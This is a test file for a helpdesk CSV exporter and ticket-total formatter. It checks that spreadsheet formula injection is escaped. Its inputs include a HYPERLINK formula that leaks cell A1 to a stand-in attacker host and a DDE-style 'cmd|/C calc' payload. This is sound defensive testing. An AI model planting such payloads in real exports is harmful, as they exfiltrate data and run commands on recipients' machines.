import { describe, expect, it } from 'vitest';
import { formatTotal, toCsv } from './format';

describe('CSV export of what customers typed', () => {
  it('turns cells a spreadsheet would run into text', () => {
    const subject = '=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")';
    expect(toCsv([['SD-1', subject]])).toBe(`SD-1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click for your refund"")"\r\n`);
    expect(toCsv([['+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A2)']])).toBe("'+1+cmd|/C calc!A0,'-2+3,'@SUM(A1:A2)\r\n");
  });

  it('catches a tab or carriage return in front of a formula', () => {
    expect(toCsv([['\t=1+1']])).toBe("'\t=1+1\r\n");
    // A carriage return also needs quotes, as RFC 4180 says.
    expect(toCsv([['\r=1+1']])).toBe(`"'\r=1+1"\r\n`);
  });

  it('leaves ordinary text and the app\'s numbers alone', () => {
    expect(toCsv([['Refund please', 'a=b', 'SD-00012', '', null, -5, 42]])).toBe('Refund please,a=b,SD-00012,,,-5,42\r\n');
  });
});

describe('ticket list totals', () => {
  it('shows an exact total as it is', () => {
    expect(formatTotal({ totalCount: 0, totalCountCapped: false })).toBe('0');
    expect(formatTotal({ totalCount: 18086, totalCountCapped: false })).toBe('18086');
  });

  it('shows a total counted only to the cap as more than it', () => {
    expect(formatTotal({ totalCount: 10000, totalCountCapped: true })).toBe('10,000+');
  });
});
